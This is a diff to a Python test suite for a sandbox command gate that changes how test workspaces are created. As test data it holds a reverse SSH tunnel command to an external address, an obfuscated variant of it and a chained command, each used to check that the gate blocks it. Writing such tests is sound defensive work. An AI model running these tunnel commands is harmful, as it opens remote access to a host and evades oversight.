@@ -10,6 +10,7 @@ import pytest
 from corral.policy.loader import load_policy, policy_from_mapping
 from corral.rules.gate import make_gate
 from corral.sandbox.sandbox import Sandbox
+from tests.sandbox.helpers import new_dir
 
 TUNNEL = "ssh -R 8080:localhost:22 user@203.0.113.5"
 MEDIUM = "ssh user@203.0.113.5"  # ask under rl-strict thresholds
@@ -20,7 +21,7 @@ def policy_with(ask: str) -> object:
 
 
 async def test_gate_blocks_reverse_tunnel_and_emits_event(tmp_path: Path) -> None:
-    async with Sandbox("rl-strict", workspace=tmp_path / "ws", store=False) as sb:
+    async with Sandbox("rl-strict", workspace=new_dir(tmp_path / "ws"), store=False) as sb:
         res = await sb.exec(f"touch ran_it && {TUNNEL}")
         assert res.blocked and res.exit_code == 126
         assert not (tmp_path / "ws" / "ran_it").exists()
@@ -37,13 +38,13 @@ async def test_gate_blocks_reverse_tunnel_and_emits_event(tmp_path: Path) -> Non
 
 
 async def test_obfuscated_tunnel_is_blocked_too(tmp_path: Path) -> None:
-    async with Sandbox("rl-strict", workspace=tmp_path / "ws", store=False) as sb:
+    async with Sandbox("rl-strict", workspace=new_dir(tmp_path / "ws"), store=False) as sb:
         res = await sb.exec("s=ssh; $s -R 8080:localhost:22 user@203.0.113.5")
         assert res.blocked
 
 
 async def test_rl_strict_ask_means_deny(tmp_path: Path) -> None:
-    async with Sandbox("rl-strict", workspace=tmp_path / "ws", store=False) as sb:
+    async with Sandbox("rl-strict", workspace=new_dir(tmp_path / "ws"), store=False) as sb:
         res = await sb.exec(MEDIUM)
         assert res.blocked
         ev = [e for e in res.events if e.action == "blocked"][0]
@@ -52,7 +53,7 @@ async def test_rl_strict_ask_means_deny(tmp_path: Path) -> None:
 
 async def test_ask_allow_lets_it_run(tmp_path: Path) -> None:
     # `ssh` is missing or fails inside the sandbox (no network): what matters is it was not blocked
-    async with Sandbox(policy_with("allow"), workspace=tmp_path / "ws", store=False) as sb:
+    async with Sandbox(policy_with("allow"), workspace=new_dir(tmp_path / "ws"), store=False) as sb:
         res = await sb.exec(MEDIUM + " 2>/dev/null; echo ran")
         assert not res.blocked and "ran" in res.stdout
 
@@ -67,7 +68,7 @@ async def test_ask_callback_sync_and_async(tmp_path: Path, answer: bool) -> None
         return answer
 
     pol = policy_with("callback")
-    async with Sandbox(pol, workspace=tmp_path / "ws", store=False,
+    async with Sandbox(pol, workspace=new_dir(tmp_path / "ws"), store=False,
                        gate=make_gate(pol, approve=approve)) as sb:  # fmt: skip
         res = await sb.exec(MEDIUM + " 2>/dev/null; echo ran")
         assert res.blocked is (not answer)
